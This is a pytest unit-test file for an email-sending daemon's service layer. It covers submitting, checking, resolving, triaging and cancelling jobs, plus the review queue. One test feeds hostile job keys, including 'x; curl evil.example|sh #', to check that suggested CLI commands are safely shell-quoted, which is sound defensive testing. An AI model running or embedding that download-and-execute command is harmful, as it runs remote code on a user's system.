"""The service layer every door uses (daemon/service_layer/services.py), on the memory store
with the fake provider and injected time: submit, check, resolve, triage, cancel, the queue."""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from contextlib import contextmanager, nullcontext
from datetime import timedelta
from typing import Any

import pytest
from tests.unit.engine_rig import EngineRig, claimed_by, policy

from daemon.doubles.fake_provider import Scripted
from daemon.service_layer.doors import lent_providers
from daemon.service_layer.read_models import timeline_details
from daemon.service_layer.services import (
    TRIAGE_NOTE,
    ChannelPolicies,
    Refusal,
    ServiceError,
    Services,
    check_advice,
    safe_decisions,
)
from ledger import keys
from ledger.display import iso
from ledger.vocabulary import JobState, Resolution

LEGAL = policy("legal", on_unknown="review")
OTHER = policy("other", on_unknown="review")


@pytest.fixture
def rig() -> Iterator[EngineRig]:
    rig = EngineRig(LEGAL, OTHER)
    yield rig
    rig.close()


def services(rig: EngineRig, broken: dict[str, str] | None = None) -> Services:
    return Services(
        rig.ledger,
        lambda: ChannelPolicies(rig.policies, broken or {}),
        providers=lambda name: nullcontext(rig.provider),
    )


def job(key: str, channel: str = "legal", **extra: Any) -> dict[str, Any]:
    return {
        "channel": channel,
        "key": key,
        "to": "customer@example.net",
        "subject": f"Receipt {key}",
        "body": "Thank you.\n",
        **extra,
    }


def in_review(rig: EngineRig, key: str, *, copies: int) -> None:
    """A job whose send had an unknown outcome (review at once), with `copies` stored."""
    rig.submit("legal", key)
    rig.provider.script(Scripted.dropped_response() if copies else Scripted.lost_request())
    rig.tick()
    assert rig.job(key).state is JobState.REVIEW
    for _ in range(copies - 1):
        rig.provider.store_copy(rig.job(key).message_id)
    rig.clock.advance(61)  # past the channel's search_after: a search now is believed


def refused(call: Any, kind: Refusal) -> str:
    with pytest.raises(ServiceError) as caught:
        call()
    assert caught.value.kind is kind, caught.value.message
    return caught.value.message


# -- submit -------------------------------------------------------------------------


def test_submit_creates_then_knows_the_job(rig: EngineRig) -> None:
    s = services(rig)
    first = s.submit(job("k1"), by="alice")
    assert first.created and first.body()["state"] == "requested"
    again = s.submit([job("k1")], by="alice")
    assert not again.created and isinstance(again.body(), list)
    assert rig.job("k1").submitted_by == "alice"


def test_a_broken_channel_refuses_and_the_others_accept(rig: EngineRig) -> None:
    s = services(rig, broken={"legal": "legal.toml:max_attempts: must be >= 1"})
    message = refused(lambda: s.submit(job("k1"), by="a"), Refusal.BAD_INPUT)
    assert "job.channel" in message and "broken" in message and "legal.toml" in message
    assert s.submit(job("k2", "other"), by="a").created
    # A batch naming the broken channel is refused whole, at that job's index.
    with pytest.raises(ServiceError) as caught:
        s.submit([job("k3", "other"), job("k4")], by="a")
    assert [(p.index, p.field) for p in caught.value.problems] == [(1, "channel")]
    assert rig.ledger.find_job("k3") is None and rig.ledger.find_job("k1") is None


def test_submit_refuses_other_content_for_a_known_key(rig: EngineRig) -> None:
    s = services(rig)
    s.submit(job("k1"), by="a")
    refused(lambda: s.submit(job("k1", subject="changed"), by="a"), Refusal.CONFLICT)


def test_a_key_given_twice_in_a_batch_with_other_content_is_not_said_to_be_stored(
    rig: EngineRig,
) -> None:
    # Nothing is stored under the key: "already exists ... (stored sha256:...)" sent the
    # operator to `status k1`, which answers "no job" (exit 4).
    s = services(rig)
    message = refused(
        lambda: s.submit([job("k1"), job("k2"), job("k1", subject="other")], by="a"),
        Refusal.CONFLICT,
    )
    assert "already exists" not in message and "stored" not in message
    assert "'k1'" in message and "job[0]" in message and "job[2]" in message
    assert "subject" in message
    assert rig.ledger.find_job("k1") is None and rig.ledger.find_job("k2") is None


def test_submit_refuses_bad_fields_naming_them(rig: EngineRig) -> None:
    message = refused(
        lambda: services(rig).submit(job("k1", to="nobody"), by="a"), Refusal.BAD_INPUT
    )
    assert message.startswith("job.to")


# -- check --------------------------------------------------------------------------


def test_check_records_who_asked_and_what_was_found(rig: EngineRig) -> None:
    in_review(rig, "k1", copies=1)
    answer = services(rig).check("k1", by="bob")
    assert answer.count == 1 and answer.recorded
    body = answer.as_dict()
    assert set(body) >= {"count", "query", "copies"}
    copy = body["copies"][0]
    assert set(copy) == {"provider_id", "date", "to", "subject", "in_trash"}
    assert copy["in_trash"] is False and body["only_in_trash"] is False
    assert copy["to"] == "customer@example.net" and copy["subject"] == "Receipt k1"
    checked = [e for e in services(rig).history("k1") if e["type"] == "Checked"]
    assert checked[-1]["by"] == "bob" and checked[-1]["purpose"] == "check"
    assert checked[-1]["provider_message_ids"] == [copy["provider_id"]]
    assert checked[-1]["query"] == answer.query
    assert rig.job("k1").state is JobState.REVIEW  # a check decides nothing


def test_a_failed_search_is_unavailable_and_records_nothing(rig: EngineRig) -> None:
    in_review(rig, "k1", copies=1)
    rig.provider.fail_searches(1)
    message = refused(lambda: services(rig).check("k1", by="bob"), Refusal.UNAVAILABLE)
    assert "could not be searched" in message
    assert "Checked" not in rig.events("k1")


def test_check_of_an_unknown_job_is_not_found(rig: EngineRig) -> None:
    refused(lambda: services(rig).check("nope", by="bob"), Refusal.NOT_FOUND)


def test_advice_quotes_hostile_keys() -> None:
    for key in ("victim-job --as resend #", "x; curl evil.example|sh #"):
        advice = check_advice(key, "review", 1)
        command = advice.split("`")[1]
        assert shlex.split(command) == ["sendledger", "review", "resolve", key, "--as", "sent"]


# -- resolve ------------------------------------------------------------------------


def test_a_resend_is_refused_when_a_copy_exists_and_nothing_is_sent(rig: EngineRig) -> None:
    in_review(rig, "k1", copies=1)
    sends = rig.provider.sends
    s = services(rig)
    message = refused(
        lambda: s.resolve("k1", Resolution.RESEND, note="", by="bob"), Refusal.CONFLICT
    )
    assert "1 copy found: resolve as sent" in message
    assert "cannot Resolved" not in message
    assert rig.job("k1").state is JobState.REVIEW
    checked = [e for e in s.history("k1") if e["type"] == "Checked"]
    assert checked[-1]["purpose"] == "resend" and len(checked[-1]["provider_message_ids"]) == 1
    rig.advance_and_tick(3600)
    assert rig.provider.sends == sends
    # ... and the page then no longer offers a resend for it.
    assert Resolution.RESEND not in s.job_view("k1").decisions


def test_a_resend_with_no_copy_found_is_requeued_with_its_search(rig: EngineRig) -> None:
    in_review(rig, "k1", copies=0)
    job = services(rig).resolve("k1", Resolution.RESEND, note="checked", by="bob")
    assert job.state is JobState.REQUESTED
    assert rig.events("k1")[-2:] == ["Checked", "Resolved"]
    rig.tick()
    assert rig.copies("k1") == 1


def test_a_resend_waits_for_the_index_after_the_last_attempt(rig: EngineRig) -> None:
    rig.submit("legal", "k1")
    rig.provider.script(Scripted.dropped_response())
    rig.provider.index_lag = 30.0  # the copy exists, the search cannot see it yet
    rig.tick()
    rig.clock.advance(20)
    s = services(rig)
    message = refused(lambda: s.resolve("k1", Resolution.RESEND, note="", by="b"), Refusal.CONFLICT)
    assert "last attempt ended 20 s ago" in message and "search_after" in message
    assert rig.provider.searches == 0 and rig.job("k1").state is JobState.REVIEW
    rig.clock.advance(41)
    message = refused(lambda: s.resolve("k1", Resolution.RESEND, note="", by="b"), Refusal.CONFLICT)
    assert "1 copy found" in message
    assert rig.provider.sends == 1


def test_a_resend_waits_for_the_index_after_a_slow_attempts_outcome(rig: EngineRig) -> None:
    """The copy of a call that took long reaches the mailbox as late as its outcome: the
    index wait counts from there, not from the claim (a CI run of tests/e2e/test_races.py
    found a person's resend 0.6 s after a slow claim searching before the copy showed)."""
    rig.submit("legal", "k1")
    rig.provider.script(Scripted.dropped_response())
    rig.provider.index_lag = 30.0
    rig.provider.during_send = lambda: rig.clock.advance(50)  # the call takes 50 s
    rig.tick()
    assert rig.job("k1").state is JobState.REVIEW
    rig.clock.advance(20)  # 70 s after the claim, 20 s after the outcome
    s = services(rig)
    message = refused(lambda: s.resolve("k1", Resolution.RESEND, note="", by="b"), Refusal.CONFLICT)
    assert "last attempt ended 20 s ago" in message and "search_after" in message
    assert rig.provider.searches == 0 and rig.provider.sends == 1


def test_a_resend_is_refused_when_the_search_fails(rig: EngineRig) -> None:
    in_review(rig, "k1", copies=0)
    rig.provider.fail_searches(1)
    message = refused(
        lambda: services(rig).resolve("k1", Resolution.RESEND, note="", by="bob"),
        Refusal.UNAVAILABLE,
    )
    assert "nothing was sent" in message
    assert rig.job("k1").state is JobState.REVIEW


def test_a_duplicate_offers_no_resend_and_refuses_one() -> None:
    rig = EngineRig(policy("legal", on_unknown="search-then-review"))
    rig.submit("legal", "k1")
    rig.provider.script(Scripted.dropped_response())
    rig.tick()
    rig.provider.store_copy(rig.job("k1").message_id)
    rig.advance_and_tick(120)
    assert rig.job("k1").duplicate and rig.job("k1").state is JobState.REVIEW
    s = services(rig)
    assert s.job_view("k1").decisions == [Resolution.SENT, Resolution.ABANDON]
    message = refused(
        lambda: s.resolve("k1", Resolution.RESEND, note="", by="bob"), Refusal.CONFLICT
    )
    assert "never resend" in message
    assert s.resolve("k1", Resolution.SENT, note="", by="bob").state is JobState.CONFIRMED
    rig.close()


def test_resolving_a_job_not_in_review_says_why(rig: EngineRig) -> None:
    rig.submit("legal", "k1")
    rig.tick()
    message = refused(
        lambda: services(rig).resolve("k1", Resolution.SENT, note="", by="b"), Refusal.CONFLICT
    )
    assert message == "job 'k1' is confirmed, not in review: only a job in review can be resolved"


# -- triage -------------------------------------------------------------------------


def test_triage_resolves_one_copy_and_leaves_the_rest(rig: EngineRig) -> None:
    in_review(rig, "one", copies=1)
    in_review(rig, "none", copies=0)
    in_review(rig, "two", copies=2)
    s = services(rig)
    dry = {item.key: item for item in s.triage(by="ops", dry_run=True)}
    assert {k: (i.count, i.action) for k, i in dry.items()} == {
        "one": (1, "would-resolve-sent"),
        "none": (0, "left"),
        "two": (2, "left"),
    }
    assert all("Checked" not in rig.events(k) for k in dry)  # a dry run records nothing
    done = {item.key: item.action for item in s.triage(by="ops")}
    assert done == {"one": "resolved-sent", "none": "left", "two": "left"}
    assert rig.job("one").state is JobState.CONFIRMED
    resolved = [e for e in s.history("one") if e["type"] == "Resolved"][-1]
    assert resolved["by"] == "ops" and resolved["note"] == TRIAGE_NOTE
    assert rig.job("one").provider_message_ids  # the copy found is the one confirmed
    for key in ("none", "two"):
        assert rig.job(key).state is JobState.REVIEW
        assert rig.events(key)[-1] == "Checked"
    assert s.triage(by="ops", channel="other") == []


def test_triage_reports_a_failed_search_and_goes_on(rig: EngineRig) -> None:
    in_review(rig, "a", copies=1)
    in_review(rig, "b", copies=1)
    rig.provider.fail_searches(1)
    actions = sorted(item.action for item in services(rig).triage(by="ops"))
    assert actions == ["resolved-sent", "search-failed"]


def test_triage_refuses_a_bad_name_before_it_searches_any_job(rig: EngineRig) -> None:
    # Checked per job, a bad `by` resolved nothing where one copy was found but left the
    # others half-decided; it is one refusal up front, and nothing is searched or written.
    in_review(rig, "one", copies=1)
    in_review(rig, "none", copies=0)
    before = {k: rig.events(k) for k in ("one", "none")}
    searches = rig.provider.searches
    for bad in ("ops\u202e", "x" * 1000, "a\nb"):
        message = refused(lambda bad=bad: services(rig).triage(by=bad), Refusal.BAD_INPUT)
        assert message.startswith("job.by: "), message
    assert rig.provider.searches == searches
    assert {k: rig.events(k) for k in before} == before


# -- cancel -------------------------------------------------------------------------


def test_a_cancelled_job_is_never_sent(rig: EngineRig) -> None:
    s = services(rig)
    s.submit(job("now"), by="a")
    s.submit(job("later", send_at="2026-11-01T10:00:00Z"), by="a")
    for key in ("now", "later"):
        cancelled = s.cancel(key, note="customer asked", by="bob")
        assert cancelled.state is JobState.CANCELLED
        assert rig.ledger.row(key).state == "cancelled"  # type: ignore[union-attr]
        assert rig.ledger.row(key).due_at is None  # type: ignore[union-attr]
    for _ in range(5):
        rig.advance_and_tick(3600)
    assert rig.provider.sends == 0
    assert rig.events("now") == ["Requested", "Cancelled"]
    assert s.status("now")["state"] == "cancelled"
    assert rig.ledger.counts()["cancelled"] == 2


def test_cancel_after_an_attempt_names_the_state(rig: EngineRig) -> None:
    rig.submit("legal", "k1")
    rig.tick()
    message = refused(lambda: services(rig).cancel("k1", note="", by="b"), Refusal.CONFLICT)
    assert message.startswith("job 'k1' is confirmed")
    in_review(rig, "k2", copies=0)
    seen = rig.job("k2").version
    # What to do instead: a job in review is stopped by abandoning it, as it was read (a
    # decision on what this refusal saw: refused once anyone else wrote to it).
    assert refused(lambda: services(rig).cancel("k2", note="", by="b"), Refusal.CONFLICT) == (
        "job 'k2' is in review after 1 attempt: only a job not yet attempted can be cancelled; "
        f"to send nothing more, resolve it: sendledger review resolve k2 --as abandon "
        f"--expected-version {seen}"
    )
    refused(lambda: services(rig).cancel("nope", note="", by="b"), Refusal.NOT_FOUND)


def test_a_job_requeued_after_an_attempt_cannot_be_cancelled(rig: EngineRig) -> None:
    rig.submit("legal", "k1")
    rig.provider.script(Scripted.rejected(transient=True))
    rig.tick()
    assert rig.job("k1").state is JobState.REQUESTED
    message = refused(lambda: services(rig).cancel("k1", note="", by="b"), Refusal.CONFLICT)
    assert "is requested after 1 attempt: only" in message


# -- reading ------------------------------------------------------------------------


def test_the_queue_reads_the_index_and_loads_one_page_at_once(
    rig: EngineRig, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(7):
        in_review(rig, f"k{n}", copies=0)
    calls: list[int] = []
    original = rig.ledger.get_jobs

    def counted(keys: Any) -> Any:
        calls.append(len(keys))
        return original(keys)

    monkeypatch.setattr(rig.ledger, "get_jobs", counted)
    s = services(rig)
    page = s.review_queue(per_page=3, page=3, sort="key")
    assert [r["key"] for r in page.rows] == ["k6"] and page.total == 7 and page.pages == 3
    assert page.rows[0]["to"] == ["customer@example.net"]
    assert calls == [1]
    assert len(s.review_list()) == 7 and calls[-1] == 7  # one query: fewer than a page
    assert s.review_queue(channel="other").total == 0
    refused(lambda: s.review_queue(sort="nonsense"), Refusal.BAD_INPUT)


def test_find_jobs_by_key_message_id_or_recipient(rig: EngineRig) -> None:
    s = services(rig)
    s.submit(job("k1"), by="a")
    s.submit(job("k2", to="someone@else.example"), by="a")
    message_id = rig.job("k2").message_id
    assert [r["key"] for r in s.find_jobs("k1")] == ["k1"]
    assert [r["key"] for r in s.find_jobs(message_id.strip("<>"))] == ["k2"]
    assert [r["key"] for r in s.find_jobs("ELSE.example")] == ["k2"]
    assert s.find_jobs("   ") == []


def test_the_job_view_lists_attachments_without_content(rig: EngineRig) -> None:
    s = services(rig)
    data = "QUJD" * 1000  # 3000 bytes
    s.submit(
        job(
            "k1",
            attachments=[
                {"filename": "a.pdf", "content_type": "application/pdf", "content_base64": data}
            ],
        ),
        by="a",
    )
    view = s.job_view("k1")
    assert view.attachments == [
        {"filename": "a.pdf", "content_type": "application/pdf", "size": 3000}
    ]
    assert view.cancellable and view.decisions == []
    shown = " ".join(v for record in view.history for _, v in timeline_details(record))
    assert data not in shown and "None" not in shown
    assert '"size": 3000' in shown


def test_safe_decisions_out_of_review_are_none(rig: EngineRig) -> None:
    rig.submit("legal", "k1")
    assert safe_decisions(rig.job("k1"), None) == []


def test_a_field_the_domain_refuses_is_bad_input(
    rig: EngineRig, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ledger.content import JobInputError
    from ledger.job import SendJob

    def refuse(self: SendJob, **_: Any) -> None:
        raise JobInputError("note", "must not contain a control character")

    s = services(rig)
    s.submit(job("k1"), by="a")
    monkeypatch.setattr(SendJob, "cancel", refuse)
    message = refused(lambda: s.cancel("k1", note="\x1b", by="b"), Refusal.BAD_INPUT)
    assert message == "job.note: must not contain a control character"


# -- what docs/cli.md and docs/review.md say of the services -------------------------------


def test_check_advises_a_resolve_only_in_review() -> None:
    for copies in (0, 1, 2):
        assert "review resolve" in check_advice("k", "review", copies)
    for state in ("requested", "unknown", "confirmed", "abandoned", "cancelled"):
        assert "resolve" not in check_advice("k", state, 1).replace("nothing to resolve", "")


def test_every_name_recorded_as_who_acted_follows_the_key_rule(rig: EngineRig) -> None:
    from daemon.service_layer.services import ChannelPolicies, ServiceError, Services

    rig.submit("receipts", "k1")
    s = Services(rig.ledger, lambda: ChannelPolicies(rig.policies), providers=None)
    for bad in ("ops\x1b[31m", "o" * (keys.MAX_NAME_LENGTH + 1)):
        with pytest.raises(ServiceError) as refused:
            s.cancel("k1", note="", by=bad)
        assert refused.value.kind is Refusal.BAD_INPUT and refused.value.message.startswith(
            "job.by:"
        )
    with pytest.raises(ServiceError) as refused:
        s.cancel("k1", note="x" * (keys.MAX_NOTE_LENGTH + 1), by="ops")
    assert refused.value.message.startswith("job.note:")
    assert rig.job("k1").state is JobState.REQUESTED


def test_a_check_while_a_send_is_in_flight_is_shown_not_recorded(rig: EngineRig) -> None:
    rig.submit("legal", "k1")
    rig.ledger.save_job(claimed_by(rig.ledger, "k1", "rig"))
    assert rig.job("k1").state is JobState.ATTEMPTED
    answer = services(rig).check("k1", by="bob")
    assert not answer.recorded and answer.as_dict()["recorded"] is False
    assert "Checked" not in rig.events("k1")


def test_the_daemon_lends_its_own_provider_and_builds_none(rig: EngineRig) -> None:
    """A door in the daemon searches with the engine's provider, the one its quota and
    circuit belong to, and leaves it open; a name it has no live provider for is built."""
    built: list[str] = []

    @contextmanager
    def build(name: str) -> Iterator[Any]:
        built.append(name)
        yield rig.provider

    source = lent_providers({"fake": rig.provider, "idle": None}, build)
    with source("fake") as provider:
        assert provider is rig.provider
    assert built == []
    with source("idle"):
        pass
    assert built == ["idle"]


def test_resolved_as_sent_keeps_the_ids_the_job_had_and_triage_its_copy(rig: EngineRig) -> None:
    in_review(rig, "human", copies=1)
    in_review(rig, "triaged", copies=1)
    s = services(rig)
    [seen] = s.check("human", by="bob").copies
    job = s.resolve("human", Resolution.SENT, note="copy seen", by="bob")
    assert job.state is JobState.CONFIRMED and job.provider_message_ids == []
    assert [e for e in s.history("human") if e["type"] == "Checked"][-1][
        "provider_message_ids"
    ] == [seen.provider_id]
    [item] = s.triage(by="ops")
    assert item.action == "resolved-sent"
    assert rig.job("triaged").provider_message_ids == item.copies


def test_a_check_or_a_triage_keeps_how_long_a_job_has_waited_in_review(
    rig: EngineRig,
) -> None:
    # `since` was the index row's last change: a check or a triage that left a job (both
    # write a Checked event) made a job that waited 3 days look new, and sorted it last.
    in_review(rig, "old", copies=0)
    went = rig.clock()  # `in_review` went to review, then waited past the search lag
    went = went - timedelta(seconds=61)
    rig.clock.advance(3 * 86400)
    in_review(rig, "new", copies=0)
    s = services(rig)
    s.check("old", by="bob")
    rig.clock.advance(3600)
    assert {item.key: item.action for item in s.triage(by="ops")} == {"old": "left", "new": "left"}
    assert rig.events("old")[-2:] == ["Checked", "Checked"]
    listed = {r["key"]: r["since"] for r in s.review_list()}
    escalated = [e for e in s.history("old") if e["type"] == "Escalated"]
    assert listed["old"] == iso(went) == escalated[-1]["at"]
    assert listed["old"] < listed["new"]
    assert [r["key"] for r in s.review_queue(sort="since").rows] == ["old", "new"]
    assert [r["key"] for r in s.review_queue(sort="-since").rows] == ["new", "old"]
    assert [r["key"] for r in s.review_queue(sort="channel").rows] == ["old", "new"]
    row = rig.ledger.row("old")
    assert row is not None and row.review_since == went.timestamp()
    # Out of review, the column is empty; the job keeps when it last went there.
    s.resolve("old", Resolution.ABANDON, note="gone", by="bob")
    row = rig.ledger.row("old")
    assert row is not None and row.review_since is None
    assert rig.job("old").escalated_at == went
